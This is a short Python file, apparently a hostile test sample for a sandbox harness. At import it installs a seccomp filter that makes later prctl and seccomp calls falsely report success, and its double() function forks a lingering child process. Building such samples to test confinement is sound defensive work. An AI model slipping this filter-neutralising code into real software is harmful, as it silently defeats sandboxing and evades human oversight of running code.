"""Installs a filter of its own that makes every later filter seem to succeed, and then forks in its item.

must: ok | crashed
harm: left
"""

import contextlib
import ctypes
import os
import platform
import struct
import time

libc = ctypes.CDLL(None, use_errno=True)
PRCTL, SECCOMP = {"x86_64": (157, 317), "aarch64": (167, 277)}[platform.machine()]
STEPS = [(0x20, 0, 0, 0), (0x15, 1, 0, PRCTL), (0x15, 0, 1, SECCOMP), (0x06, 0, 0, 0x50000), (0x06, 0, 0, 0x7FFF0000)]
CODE = ctypes.create_string_buffer(b"".join(struct.pack("<HBBI", *step) for step in STEPS))
libc.prctl(22, 2, ctypes.create_string_buffer(struct.pack("<HxxxxxxQ", len(STEPS), ctypes.addressof(CODE))), 0, 0)


def double(x):
    with contextlib.suppress(OSError):
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
    return 2 * x


def triple(x):
    return 3 * x
